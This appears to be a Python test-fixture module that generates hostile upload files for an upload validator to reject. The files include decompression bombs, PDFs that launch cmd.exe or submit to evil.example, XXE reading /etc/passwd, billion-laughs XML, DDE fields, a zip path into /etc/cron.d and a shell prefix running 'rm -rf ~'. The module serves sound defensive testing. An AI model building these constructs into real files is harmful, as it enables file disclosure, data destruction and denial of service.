"""Files made to harm, each made anew here: none is ever kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.core.uploads import good

Made = Callable[[], bytes]
HOSTILE: dict[str, tuple[Made, str]] = {}  # what it is: (how it is made, the reason it is refused for)


def refused_for(reason: str) -> Callable[[Made], Made]:
    def register(made: Made) -> Made:
        HOSTILE[made.__name__.replace("_", " ")] = (made, reason)
        return made

    return register


def test_virus() -> bytes:
    """EICAR's 68 bytes, put together here so that no scanner finds this file."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def pdf_with(change: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    return good.written(made, **save)


def docx_with(**more: str | bytes) -> bytes:
    return good.zipped({**good.docx_parts(), **{name.replace("|", "/"): data for name, data in more.items()}})


def zeros(size: int) -> bytes:
    """So many zeros, packed; made in steps, because this process's own memory is watched."""
    packer = zlib.compressobj(1)
    step = bytes(1 << 20)
    return b"".join([*(packer.compress(step) for _ in range(size >> 20)), packer.flush()])


def rels(kind: str, target: str, mode: str = "External") -> str:
    return (
        f'<Relationships xmlns="{good.RELS}"><Relationship Id="r9" Type="{good.DOC_RELS}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


# What is no document


@refused_for("empty")
def nothing() -> bytes:
    return b""


@refused_for("wrong_kind")
def program_named_pdf() -> bytes:
    return b"\x7fELF" + bytes(4000)


@refused_for("wrong_kind")
def page_of_html() -> bytes:
    return b"<html><script>alert(1)</script></html>"


@refused_for("wrong_kind")
def plain_zip() -> bytes:
    return good.zipped({"a.txt": "x"})


@refused_for("wrong_kind")
def gif() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(20) + b";"


@refused_for("old_office")
def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


@refused_for("malware")
def virus() -> bytes:
    return test_virus()


@refused_for("malware")
def virus_in_a_docx() -> bytes:
    return docx_with(**{"word|media|note.bin": bytes(9000) + test_virus()})


@refused_for("malware")
def virus_in_a_pdf_stream() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Contents = made.make_stream(b"% " + test_virus() + b" " * 5000)

    return pdf_with(change, compress_streams=True)


# Two formats at once


@refused_for("polyglot")
def pdf_that_is_a_zip() -> bytes:
    return good.pdf() + good.zipped({"evil.html": "<script>"})


@refused_for("polyglot")
def gif_that_is_javascript_and_pdf() -> bytes:
    return b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//" + good.pdf()


@refused_for("polyglot")
def picture_with_a_page_of_script() -> bytes:
    return good.jpeg() + b"<script>alert(1)</script>"


@refused_for("polyglot")
def picture_that_is_a_jar() -> bytes:
    return good.png() + good.zipped({"META-INF/MANIFEST.MF": "x"})


@refused_for("wrong_kind")
def docx_behind_a_script() -> bytes:
    return b"#!/bin/sh\nrm -rf ~\n" + good.docx()


# PDF


@refused_for("encrypted")
def pdf_with_a_password() -> bytes:
    return good.pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


@refused_for("encrypted")
def pdf_with_an_owners_password() -> bytes:
    return good.pdf(encryption=pikepdf.Encryption(owner="o", user=""))


@refused_for("scripts")
def pdf_that_runs_a_script_when_opened() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")

    return pdf_with(change)


@refused_for("scripts")
def pdf_with_a_script_under_an_escaped_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript` (PDF 1.7, 7.3.5)."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root.Names = Dictionary(XavaScript=Dictionary(Names=Array(["a", Dictionary(S=Name.Xoo)])))

    return pdf_with(change).replace(b"/XavaScript", b"/J#61vaScript")


@refused_for("scripts")
def pdf_with_a_script_in_an_object_stream() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        action = made.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
        made.Root.AA = Dictionary(WC=action)

    return pdf_with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@refused_for("actions")
def pdf_that_starts_a_program() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")

    return pdf_with(change)


@refused_for("actions")
def pdf_that_sends_a_form() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="https://evil.example/"))

    return pdf_with(change)


@refused_for("embedded")
def pdf_with_an_attachment() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["evil.exe"] = b"MZ" + bytes(100)

    return pdf_with(change)


@refused_for("scripts")
def pdf_with_an_xfa_form() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"))

    return pdf_with(change)


@refused_for("recursive")
def pdf_whose_drawing_draws_itself() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        form = made.make_stream(b"/Me Do")
        form.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": [0, 0, 9, 9]})
        form.Resources = Dictionary(XObject=Dictionary(Me=form))
        made.pages[0].Resources = Dictionary(XObject=Dictionary(Me=form))

    return pdf_with(change)


@refused_for("recursive")
def pdf_whose_pages_hold_themselves() -> bytes:
    tree = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
    return tree + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


@refused_for("recursive")
def pdf_of_a_billion_pages() -> bytes:
    """Thirty levels that name each other ten times: 10^30 pages in two kilobytes."""
    levels = [
        f"{n} 0 obj<</Type/Pages/Count 9/Kids[{f'{n + 1} 0 R ' * 10}]>>endobj\n".encode()
        for n in range(2, 32)
    ]
    leaf = b"32 0 obj<</Type/Page/MediaBox[0 0 9 9]>>endobj\n"
    body = b"".join([b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n", *levels, leaf])
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R/Size 33>>\nstartxref\n0\n%%EOF"


@refused_for("unreadable")
def pdf_of_brackets() -> bytes:
    """A hundred thousand arrays within arrays."""
    deep = b"[" * 100_000 + b"]" * 100_000
    body = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/X "
        + deep
        + b">>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n"
    )
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


@refused_for("too_complex")
def pdf_of_boxes_in_boxes() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        box = Array([])
        for _ in range(90):
            box = Array([box])
        made.Root.Boxes = box

    return pdf_with(change)


@refused_for("unpacked_too_large")
def pdf_bomb() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        bomb = made.make_stream(zeros(210 << 20))
        bomb.Filter = Name.FlateDecode
        made.pages[0].Contents = bomb

    return pdf_with(change, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@refused_for("unpacked_too_large")
def pdf_bomb_in_a_bomb() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        bomb = made.make_stream(zlib.compress(zeros(210 << 20)))
        bomb.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        made.pages[0].Contents = bomb

    return pdf_with(change, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@refused_for("unreadable")
def pdf_whose_objects_are_a_bomb() -> bytes:
    """The reader itself has to unpack an object stream; it runs into the process's memory limit."""
    packed = zeros(1 << 30)
    head = f"%PDF-1.5\n4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(packed)}>>stream\n".encode()
    body = head + packed + b"\nendstream endobj\n"
    entries = b"".join(
        struct.pack(">BIH", *row) for row in [(0, 0, 0), (2, 4, 0), (0, 0, 0), (0, 0, 0), (1, 9, 0)]
    )
    table = f"5 0 obj<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length {len(entries)}>>stream\n".encode()
    return body + table + entries + f"\nendstream endobj\nstartxref\n{len(body)}\n%%EOF".encode()


@refused_for("too_many_pages")
def pdf_of_forty_pages() -> bytes:
    return good.pdf(40)


@refused_for("picture_too_large")
def pdf_with_a_picture_without_end() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        picture = made.make_stream(zlib.compress(b"x"))
        picture.update(
            {"/Subtype": Name.Image, "/Width": 90_000, "/Height": 90_000, "/Filter": Name.FlateDecode}
        )
        made.pages[0].Resources = Dictionary(XObject=Dictionary(P=picture))

    return pdf_with(change, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@refused_for("unreadable")
def pdf_cut_off() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 20


# DOCX and XLSX


@refused_for("macros")
def docx_with_macros() -> bytes:
    return docx_with(**{"word|vbaProject.bin": b"x"})


@refused_for("macros")
def docm_renamed() -> bytes:
    parts = good.docx_parts()
    types = str(parts["[Content_Types].xml"])
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return good.zipped({**parts, "[Content_Types].xml": types.replace(good.MAIN, macro)})


@refused_for("macros")
def xlsx_with_macro_sheet() -> bytes:
    return _added(good.xlsx(), "xl/macrosheets/sheet1.xml", b"<x/>")


@refused_for("embedded")
def docx_with_an_ole_object() -> bytes:
    return docx_with(**{"word|embeddings|oleObject1.bin": b"MZ"})


@refused_for("external")
def docx_with_a_template_from_outside() -> bytes:
    return docx_with(
        **{"word|_rels|settings.xml.rels": rels("attachedTemplate", "https://evil.example/t.dotm")}
    )


@refused_for("external")
def docx_with_a_picture_from_outside() -> bytes:
    return docx_with(**{"word|_rels|document.xml.rels": rels("image", "https://evil.example/seen.png")})


@refused_for("external")
def docx_with_a_dde_field_in_pieces() -> bytes:
    pieces = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EAU", 'TO c:\\cmd "/k"')
    )
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return good.zipped(good.docx_parts(f"<w:p>{begin}{pieces}</w:p>"))


@refused_for("external")
def xlsx_with_dde() -> bytes:
    return _added(
        good.xlsx(), "xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/>'
    )


@refused_for("entities")
def docx_of_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    body = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]><x>&l9;</x>'
    return docx_with(**{"word|document.xml": body})


@refused_for("entities")
def docx_that_reads_our_files() -> bytes:
    body = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
    return docx_with(**{"word|footer1.xml": body})


@refused_for("unreadable")
def docx_of_brackets() -> bytes:
    return docx_with(**{"word|document.xml": "<x>" * 200_000})


@refused_for("unpacked_too_large")
def docx_bomb() -> bytes:
    return docx_with(**{"word|document.xml": b"<x>" + bytes(1 << 26)})


@refused_for("unpacked_too_large")
def xlsx_bomb() -> bytes:
    return _added(good.xlsx(), "xl/worksheets/sheet2.xml", b"<c/>" * (21 << 20))


@refused_for("unreadable")
def docx_bomb_with_a_lying_header() -> bytes:
    packed = docx_with(**{"word|document.xml": b"<x>" + bytes(1 << 26)})
    return packed.replace(struct.pack("<I", (1 << 26) + 3), struct.pack("<I", 90))


@refused_for("unpacked_too_large")
def docx_whose_parts_share_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in good.docx_parts().items():
            package.writestr(name, data)
        package.writestr("word/a.xml", "<x/>" * 9000)
        twin = zipfile.ZipInfo("word/b.xml")
        first = package.getinfo("word/a.xml")
        for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type", "flag_bits"):
            setattr(twin, field, getattr(first, field))
        package.filelist.append(twin)
    return out.getvalue()


@refused_for("too_complex")
def docx_of_ten_thousand_parts() -> bytes:
    return docx_with(**{f"word|part{n}.xml": "<x/>" for n in range(10_000)})


@refused_for("polyglot")
def docx_that_leads_outside() -> bytes:
    return docx_with(**{"..|..|..|etc|cron.d|x": "* * * * * root sh"})


@refused_for("encrypted")
def docx_with_a_password() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(900)
    )


@refused_for("encrypted")
def docx_with_a_locked_part() -> bytes:
    packed = bytearray(good.docx())
    central = packed.rindex(b"PK\x01\x02")
    packed[central + 8] |= 1
    return bytes(packed)


@refused_for("unreadable")
def docx_cut_off() -> bytes:
    return good.docx()[:-300]


# Pictures


@refused_for("picture_too_large")
def png_of_a_billion_pixels() -> bytes:
    return _png(40_000, 40_000, zlib.compress(bytes(1000)))


@refused_for("picture_too_large")
def jpeg_of_a_billion_pixels() -> bytes:
    photo = bytearray(good.jpeg())
    frame = photo.index(b"\xff\xc0")
    photo[frame + 5 : frame + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(photo)


@refused_for("unreadable")
def png_that_ends_early() -> bytes:
    return _png(4000, 4000, zlib.compress(bytes(1000)))


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _added(package: bytes, name: str, data: bytes) -> bytes:
    out = io.BytesIO(package)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as more:
        more.writestr(name, data)
    return out.getvalue()
